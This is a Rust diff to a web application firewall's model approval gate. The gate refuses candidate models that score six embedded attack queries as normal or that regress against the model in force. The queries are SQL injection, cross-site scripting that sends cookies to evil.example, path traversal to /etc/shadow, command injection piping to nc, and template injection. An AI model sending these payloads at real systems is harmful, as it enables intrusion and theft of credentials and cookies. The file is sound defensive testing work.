@@ -8,12 +8,13 @@ use waf_model::{
     client::ClientVector,
     model::{Model, calibration::Certificate},
     observation::{Observation, ValueKey},
-    request::{BodyExtent, BodyView, Header, RequestView},
+    request::{BodyExtent, BodyView, RequestView},
     rules::RuleMatches,
-    values::{Limits, Values},
+    score::Score,
+    values::{Limits, Location, Values},
 };
 
-use crate::calibrate::Candidate;
+use crate::{calibrate::Candidate, lake::columns::request_id};
 
 /// Least requests to calibrate on.
 const CALIBRATION_REQUESTS: u64 = 50;
@@ -21,13 +22,36 @@ const CALIBRATION_REQUESTS: u64 = 50;
 /// Least clients to learn from, where there are clients.
 const CLIENTS: u64 = 10;
 
-/// What may be asked of a candidate.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+/// Plain attacks, name and query: no model that calls one of them normal is published.
+pub const ATTACKS: [(&str, &str); 6] = [
+    (
+        "SQL injection",
+        "id=7%27%20OR%20%27a%27%3D%27a%27%20UNION%20SELECT%20name%2C%20pass%20FROM%20accounts--",
+    ),
+    (
+        "cross-site scripting",
+        "q=%3Cimg%20src%3Dn%20onerror%3D%22fetch%28%27//evil.example/%27%2Bdocument.cookie%29%22%3E",
+    ),
+    ("path traversal", "file=..%2F..%2F..%2F..%2F..%2Fetc%2Fshadow"),
+    ("shell command", "host=127.0.0.1%3B%20cat%20/etc/hosts%20%7C%20nc%20evil.example%2099"),
+    ("template injection", "name=%7B%7B7*7%7D%7D%24%7B%28self.__class__.mro%28%29%29%7D"),
+    ("encoded twice", "q=%2527%2520or%25201%253d1%2520--%2520%253Cscript%253E"),
+];
+
+/// A canary is told from clean requests if at most one of a hundred clean ones is as far from normal.
+const CANARY_SURPRISE: f32 = 2.0;
+
+/// What is asked of a candidate.
+#[derive(Debug, Clone)]
 pub struct Demands {
     /// Least requests learned from.
     pub requests: u64,
     /// Whether the data has clients.
     pub clients: Clients,
+    /// The model in force, if there is one that can be compared with.
+    pub current: Option<Model>,
+    /// Ids of requests that a person judged harmless and that the candidate would reject.
+    pub wronged: Vec<[u8; 16]>,
 }
 
 /// Whether the data tells clients apart.
@@ -40,7 +64,6 @@ pub enum Clients {
 }
 
 /// A signed artifact that passed every gate.
-#[derive(Debug)]
 pub struct Approved {
     seq: u64,
     bytes: Vec<u8>,
@@ -77,6 +100,18 @@ pub enum Refusal {
         /// The median of clean requests.
         median: f32,
     },
+    /// The model in force tells an attack from clean requests, the candidate does not.
+    Regression {
+        /// The attack.
+        name: &'static str,
+    },
+    /// A request that a person judged harmless would be rejected.
+    MustPass {
+        /// Its id.
+        request: [u8; 16],
+        /// How many there are.
+        count: usize,
+    },
     /// A gateway would refuse it.
     Artifact(String),
 }
@@ -103,8 +138,25 @@ impl fmt::Display for Refusal {
                 "an attack ({name}) looks harmless: distance {distance:.2}, clean requests {median:.2}; the training \
                  data may hold attacks, review what was learned"
             ),
+            Self::Regression { name } => write!(
+                f,
+                "an attack ({name}) that the model in force would flag looks usual now; the training data may hold \
+                 attacks, review what was learned"
+            ),
+            Self::MustPass { request, count } => write!(
+                f,
+                "{count} requests that were judged harmless would be rejected, {} among them; allow a larger request \
+                 budget, or review them again",
+                request_id(request)
+            ),
             Self::Artifact(error) => write!(f, "a gateway would refuse the artifact: {error}"),
         }
+    }
+}
+
+impl fmt::Debug for Approved {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "Approved(model {}, {} bytes)", self.seq, self.bytes.len())
     }
 }
 
@@ -152,10 +204,22 @@ pub fn approve(candidate: &Candidate, demands: &Demands, key: &SigningKey) -> Re
     if certificate.n == 0 || !certificate.threshold.is_finite() {
         refusals.push(Refusal::Certificate(*certificate));
     }
-    for (name, distance) in canaries(model) {
-        if distance <= candidate.median {
-            refusals.push(Refusal::Canary { name, distance, median: candidate.median });
+    let host = host(candidate);
+    for (name, score) in canaries(model, &host) {
+        if score.request_distance <= candidate.median {
+            let (distance, median) = (score.request_distance, candidate.median);
+            refusals.push(Refusal::Canary { name, distance, median });
         }
+    }
+    if let Some(current) = &demands.current {
+        for ((name, before), (_, now)) in canaries(current, &host).into_iter().zip(canaries(model, &host)) {
+            if before.request.surprise() >= CANARY_SURPRISE && now.request.surprise() < CANARY_SURPRISE {
+                refusals.push(Refusal::Regression { name });
+            }
+        }
+    }
+    if let Some(request) = demands.wronged.first() {
+        refusals.push(Refusal::MustPass { request: *request, count: demands.wronged.len() });
     }
     match sign(candidate, key) {
         Ok(approved) if refusals.is_empty() => Ok(approved),
@@ -175,50 +239,34 @@ fn sign(candidate: &Candidate, key: &SigningKey) -> Result<Approved, Refusal> {
     Ok(Approved { seq: candidate.model.seq(), bytes })
 }
 
-/// Distances of a few plain attacks on the endpoint that is asked for most.
-pub fn canaries(model: &Model) -> Vec<(&'static str, f32)> {
-    const ATTACKS: [(&str, &str); 6] = [
-        (
-            "SQL injection",
-            "id=7%27%20OR%20%27a%27%3D%27a%27%20UNION%20SELECT%20name%2C%20pass%20FROM%20accounts--",
-        ),
-        (
-            "cross-site scripting",
-            "q=%3Cimg%20src%3Dn%20onerror%3D%22fetch%28%27//evil.example/%27%2Bdocument.cookie%29%22%3E",
-        ),
-        ("path traversal", "file=..%2F..%2F..%2F..%2F..%2Fetc%2Fshadow"),
-        ("shell command", "host=127.0.0.1%3B%20cat%20/etc/hosts%20%7C%20nc%20evil.example%2099"),
-        ("template injection", "name=%7B%7B7*7%7D%7D%24%7B%28self.__class__.mro%28%29%29%7D"),
-        ("encoded twice", "q=%2527%2520or%25201%253d1%2520--%2520%253Cscript%253E"),
-    ];
-    let busiest = model
-        .profiles()
-        .endpoints()
-        .filter(|(key, _)| key.starts_with("GET "))
-        .max_by(|(_, a), (_, b)| a.weight.total_cmp(&b.weight));
-    let path = busiest.and_then(|(key, _)| key.strip_prefix("GET ")).unwrap_or("/");
-    // A template stands for its paths: any value of the right kind will do.
-    let path: String = path
-        .split('/')
-        .skip(1)
-        .flat_map(|segment| ["/", if segment.starts_with('{') { "1" } else { segment }])
-        .collect();
+/// Scores of the [`ATTACKS`], each inside an otherwise clean request.
+fn canaries(model: &Model, host: &Observation) -> Vec<(&'static str, Score)> {
     ATTACKS
         .iter()
         .map(|(name, query)| {
-            let observation = observe(&path, query, model.value_key());
-            (*name, model.score(&observation, &ClientVector::UNKNOWN).request_distance)
+            let attack = observe(query, model.value_key());
+            let mut observation = host.clone();
+            observation.query_bytes += attack.query_bytes;
+            observation.params.extend(attack.params.into_iter().filter(|p| p.location == Location::Query));
+            (*name, model.score(&observation, &ClientVector::UNKNOWN))
         })
         .collect()
 }
 
-fn observe(path: &str, query: &str, key: &ValueKey) -> Observation {
+/// The clean request whose distance is the middle one of those kept as golden pairs.
+fn host(candidate: &Candidate) -> Observation {
+    let mut golden: Vec<_> = candidate.golden.iter().collect();
+    golden.sort_by(|a, b| a.request_distance.total_cmp(&b.request_distance));
+    golden.get(golden.len() / 2).map(|golden| golden.observation.clone()).unwrap_or_default()
+}
+
+fn observe(query: &str, key: &ValueKey) -> Observation {
     let view = RequestView {
         method: "GET",
-        path: path.as_bytes(),
+        path: b"/",
         query: Some(query.as_bytes()),
         protocol: "HTTP/1.1",
-        headers: &[Header { name: "host", value: b"localhost" }, Header { name: "accept", value: b"*/*" }],
+        headers: &[],
         body: BodyView { bytes: b"", extent: BodyExtent::Complete },
         client_address: "",
     };
